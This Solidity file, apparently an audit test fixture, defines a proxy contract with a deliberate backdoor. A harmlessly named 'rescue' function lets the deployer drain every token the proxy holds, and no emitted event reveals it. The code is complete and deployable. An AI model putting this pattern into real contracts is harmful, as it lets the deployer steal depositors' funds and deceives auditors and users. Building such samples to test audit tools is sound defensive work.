// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Proxy} from "@openzeppelin/contracts/proxy/Proxy.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title BackdoorProxy
/// @notice Behaves as another contract, until its maker takes all tokens. For tests: an audit of
/// the history alone would call it clean.
contract BackdoorProxy is Proxy {
    address private immutable maker = msg.sender;
    address private immutable code;

    /// @notice Hides in front of a contract.
    /// @param code_ the contract that it behaves as
    constructor(address code_) {
        code = code_;
    }

    /// @notice Takes all of the token. No event of the history tells that it can.
    /// @param token what to take
    function rescue(IERC20 token) external {
        if (msg.sender == maker) token.transfer(maker, token.balanceOf(address(this)));
    }

    function _implementation() internal view override returns (address) {
        return code;
    }
}
